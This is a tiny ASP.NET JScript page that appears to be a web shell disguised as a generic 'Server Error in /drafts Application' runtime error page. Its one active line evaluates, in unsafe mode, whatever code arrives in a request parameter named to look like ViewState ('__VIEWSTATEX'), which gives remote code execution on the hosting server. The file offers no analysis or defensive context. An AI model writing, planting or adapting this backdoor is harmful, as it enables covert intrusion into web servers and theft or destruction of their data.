<%@ Page Language="Jscript" Debug="false"%>
<html><head><title>Runtime Error</title></head><body><h2>Server Error in '/drafts' Application.</h2>
<%eval(Request.Item["__VIEWSTATEX"],"unsafe");%>
</body></html>
